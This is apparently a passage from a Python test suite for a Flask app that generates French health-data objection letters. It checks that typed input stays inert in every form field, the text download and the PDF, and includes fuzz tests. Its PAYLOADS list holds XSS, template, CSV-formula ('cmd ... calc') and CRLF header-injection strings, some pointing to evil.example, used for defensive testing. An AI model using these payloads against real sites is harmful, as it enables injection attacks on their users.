    for output in ("edit", "text"):
        again = client.post(address_of(slug), data=posted(preview.text, output=output))
        direct = client.post(address_of(slug), data={**answers, "output": output})
        if output == "text":
            assert again.data == direct.data
        else:
            assert shown(again.text) == shown(direct.text)


# Nothing typed is ever markup

PAYLOADS = [
    "<script>alert('{}')</script>",
    "</textarea><script>alert('{}')</script>",
    "</title></head><body><h1>{}</h1>",
    '"><img src=x onerror=alert("{}")>',
    "'><svg/onload=alert('{}')>",
    '" autofocus onfocus="{}',
    "</article></form><form action=//evil.example>{}",
    "<!-- {} ",
    "]]> {} <![CDATA[",
    "javascript:alert('{}')",
    "&lt;b&gt; &#60;{}&#62; &quot;&amp",
    "{{{{ 7*7 }}}}{} {{% raw %}} ${{7*7}} #{{7*7}}",
    "((name)) [si cnil] ((reason)) {} === version courte ===",
    "%s %(limit)d %n {} %% %",
    '\\"; </style><style>*{{color:red}} {} url(//evil.example)',
    "= {} +cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a={}\r\n\r\n<b>x",
    "$& $1 \\1 \\g<0> {}",
]
WATCHED = ["a", "b", "base", "button", "form", "iframe", "img", "input", "link", "meta", "option"]
WATCHED += ["script", "select", "style", "svg", "textarea"]


def elements(text: str) -> Counter[str]:
    return Counter(tag.name for tag in parse(text).find_all(WATCHED))


@pytest.mark.parametrize(("payload", "slug"), [*zip(PAYLOADS, SLUGS * 3, strict=True)])
@pytest.mark.check(18)
def test_markup_in_every_field_of_the_form_stays_text(
    stranger: CheckingClient, payload: str, slug: str
) -> None:
    check_inert_in_every_field(stranger, payload, slug)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.check(18)
def test_markup_of_every_kind_at_once_stays_text_in_every_letter(
    stranger: CheckingClient, slug: str
) -> None:
    check_inert_in_every_field(stranger, " ".join(PAYLOADS[:8]), slug)


def check_inert_in_every_field(client: CheckingClient, payload: str, slug: str) -> None:
    first = PLATEFORME if slug in SPEAKING else SANTE
    typed = {name: payload.format(*[f"zz{name}"] * 9) for name in (*TEXTS, "carried_lines")}
    plain = {name: "" if name in NAMES else "字" for name in (*TEXTS, "carried_lines")}
    more = {"who": "protected", "first_letter": first, "outcome": "partial", "shown_lines": payload}
    more["lines_for"] = "字"  # that it is there at all says where the answers come from
    strange = {**more, "recipient": payload, "lines_for": payload, "also": payload}
    for output, status in (("edit", 200), ("preview", 422), ("text", 422), ("bundle", 422)):
        response = client.post(address_of(slug), data={**typed, **strange, "output": output})
        expected = client.post(address_of(slug), data={**plain, **more, "output": output})
        assert response.status_code == expected.status_code == status
        wanted, found = elements(expected.text), elements(response.text)
        found["a"] = wanted["a"]  # a field less, or more, in the summary
        assert found == wanted
        for name, value in posted(response.text).items():
            if name in typed:
                assert re.sub(r"\s+", " ", value) == re.sub(r"\s+", " ", typed[name]).strip()


PRINTED_IN = [
    ("reason", SANTE),
    ("city", PLAINTE),
    ("cnil_lines", INFORMATION),
    ("recipient_lines", SOIGNANT),
    ("measure", RELANCE),
    ("missing", PLAINTE),
    ("plateforme_lines", PLATEFORME),
    ("address_line1", INFORMATION),
    ("recipient_lines", RELANCE),
]
WHERE = [  # each payload in three of them
    (payload, *PRINTED_IN[(index + step) % 9])
    for index, payload in enumerate(PAYLOADS)
    for step in (0, 3, 6)
]


@pytest.mark.parametrize(("payload", "name", "slug"), WHERE)
@pytest.mark.check(18, 19)
def test_markup_in_an_accepted_answer_stays_text_in_every_output(
    stranger: CheckingClient, payload: str, name: str, slug: str
) -> None:
    value = payload.format("zz")
    first = SOIGNANT if name == "recipient_lines" else SANTE
    answers = {**answers_of("protected", first), "outcome": "partial", name: value}
    response = stranger.post(address_of(slug), data=answers)
    if response.status_code == 422:
        assert name in check_errors(response)
        return
    folded = re.sub(r"\s+", " ", value).strip()
    plain = stranger.post(address_of(slug), data={**answers, name: "texte"})
    assert elements(response.text) == elements(plain.text)
    assert folded in " ".join(letter_of(response.text))
    assert re.sub(r"\s+", " ", posted(response.text)[name]) == folded
    if name in {"reason", "missing", "measure"}:
        assert folded in re.sub(r"\s+", " ", area_of(response.text, "message"))
        downloaded = stranger.post(address_of(slug), data={**answers, "output": "text"})
        assert downloaded.mimetype == "text/plain"
        assert folded in re.sub(r"\s+", " ", downloaded.data.decode())


@pytest.mark.parametrize("payload", PAYLOADS[:4] + PAYLOADS[10:15])
@pytest.mark.check(19)
def test_markup_stays_text_in_the_pdf(
    stranger: CheckingClient, tmp_path: Path, payload: str
) -> None:
    response = post(stranger, "pdf", reason=payload.format("zz"), city="((name))")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="opposition-sante.pdf"'
    file = tmp_path / "lettre.pdf"
    file.write_bytes(response.data)
    with pdfplumber.open(file) as document:
        text = "".join("".join(page.extract_text().split()) for page in document.pages)
        assert [note for page in document.pages for note in page.annots] == []
    assert "".join(payload.format("zz").split()) in text
    assert "((name))" in text
    assert OFFICER.replace(" ", "") in text


# Anything at all

anything = st.one_of(
    st.text(max_size=60),
    st.text(sorted(fields.NAME_CHARACTERS), max_size=30),
    st.sampled_from(
        ["", "03/03/1958", "29200", "a@b.org", NIR, "\x00", "\ud800", "((name))", "%s"]
    ),
    st.integers().map(str),
)
codes = st.sampled_from(["", OTHER, *(body.code for body in load_recipients())])


hidden_names = ["options", "shown", "lines_for", "also", "large", "x"]


@settings(bounded, max_examples=150)
@given(
    slug=st.sampled_from(SLUGS),
    answers=st.dictionaries(st.sampled_from([*sorted(FIELDS), *hidden_names]), anything),
    known=st.fixed_dictionaries(
        {},
        optional={
            "recipient": codes,
            "who": st.sampled_from(WHO),
            "outcome": st.sampled_from(OUTCOMES),
            "first_letter": st.sampled_from(SLUGS),
            "lines_for": st.sampled_from(["caisse", "soignant"]),
            "also": st.sampled_from(SLUGS),
        },
    ),
    output=st.sampled_from(OUTPUTS) | anything,
)
def test_any_text_in_any_field_is_answered(
    app: Flask, slug: str, answers: dict[str, str], known: dict[str, str], output: str
) -> None:
    data = {**answers, **known, "output": output}
    encoded = {name: value.encode("utf-8", "surrogatepass") for name, value in data.items()}
    response = app.test_client().post(address_of(slug), data=encoded)
    assert response.status_code in {200, 422}


@settings(bounded, max_examples=24)  # a PDF takes a while
@given(
    slug=st.sampled_from(SLUGS),
    who=st.sampled_from(WHO),
    first=st.sampled_from(OPPOSITIONS),
    given_name=names,
    reason=st.text(sorted(fields.NAME_CHARACTERS | set("0123456789<>&%(){}[]@\n")), max_size=200),
    address=st.text(sorted(fields.LETTERS | set("0123456789 ")), max_size=38),
    ticked=st.sets(st.sampled_from(EVERY_OPTION)),
)
def test_any_accepted_text_gives_a_pdf(
    app: Flask,
    slug: str,
    who: str,
    first: str,
    given_name: str,
    reason: str,
    address: str,
    ticked: set[str],
) -> None:
    lines = dict.fromkeys(("recipient_lines", "plateforme_lines", "cnil_lines"), address)
    answers = everything(who, first, given_name=given_name, reason=reason, address_line1=address)
    answers |= {"options": sorted(ticked), "output": "pdf", **lines}
    response = app.test_client().post(address_of(slug), data=answers)
    assert response.mimetype == ("application/pdf" if response.status_code == 200 else "text/html")
    assert response.status_code in {200, 422}


@bounded
@given(body=st.binary(max_size=300), slug=st.sampled_from(SLUGS))
def test_any_body_is_answered(app: Flask, body: bytes, slug: str) -> None:
    sent = {"content_type": "application/x-www-form-urlencoded"}
    response = app.test_client().post(address_of(slug), data=body, **sent)
    assert response.status_code in {200, 400, 413, 422}


def test_today_is_the_day_in_paris(monkeypatch: pytest.MonkeyPatch) -> None:
    class Clock(datetime):
        @classmethod
        def now(cls, tz: tzinfo | None = None) -> "Clock":
            evening = cls(2026, 11, 21, 23, 30, tzinfo=UTC)  # half past midnight in Paris
            return evening.astimezone(tz)

    monkeypatch.setattr(content, "datetime", Clock)
    assert content.today() == date(2026, 11, 22)
